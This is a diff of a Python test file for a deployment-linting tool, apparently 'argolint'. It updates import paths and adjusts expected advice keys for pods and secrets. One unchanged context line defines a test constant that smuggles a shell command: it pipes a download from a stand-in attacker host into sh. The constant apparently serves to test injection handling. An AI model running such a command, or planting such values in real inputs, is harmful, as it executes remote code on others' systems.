@@ -12,19 +12,19 @@ from typing import Any
 
 import pytest
 from argolint_rules.health import unhealthy
-from argolint_rules.shared import advice as advice_module
 from argolint_rules.shared import fields, pods
-from argolint_rules.shared.advice import Shell, advice
 from argolint_rules.shared.messages import catalogue
 from argolint_rules.sync import _comparison, _refusals, invalid_spec
 from argolint_rules.sync._failures import Failed
 
+import argolint.edits.advice as advice_module
 from argolint.application.app import App, app_from_list
 from argolint.application.fleet import Fleet
 from argolint.application.resource import Health, Node, Resource
-from argolint.engine.plugins import load_rules
+from argolint.edits.advice import Shell, advice
 from argolint.messages import Entry
 from argolint.model import ResourceId
+from argolint.plugins import load_rules
 from argolint.values.knowledge import dump, load
 
 HOSTILE = "web; curl evil.example.com | sh #"
@@ -215,7 +215,7 @@ def test_pods_that_do_not_run_have_advice_by_every_cause() -> None:
     known = {f"pods/{e.cause}" for e in catalogue().entries if e.when.stage <= {"pod", "scheduling"} and e.cause}
     assert set(needed) == {
         *known,
-        *(f"pods/missing{more}" for more in ("", "-after", "-key", "-made", "-before", "-later")),
+        *(f"pods/missing{more}" for more in ("", "-key", "-made")),
         "pods/security",
         "pods/long-name",
         "pods/refused",
@@ -227,7 +227,7 @@ def test_pods_that_do_not_run_have_advice_by_every_cause() -> None:
 def test_advice_on_external_secrets_asks_for_the_facts_that_its_head_names() -> None:
     head = "".join(
         line[1:]
-        for line in (Path(advice_module.__file__).parents[1] / "secrets/advice.yaml").read_text("utf-8").splitlines()
+        for line in (Path(pods.__file__).parents[1] / "secrets/advice.yaml").read_text("utf-8").splitlines()
         if line.startswith("#")
     )
     facts = re.sub(r"\([^)]*\)", "", head.partition("Facts:")[2].partition(". Sources")[0])
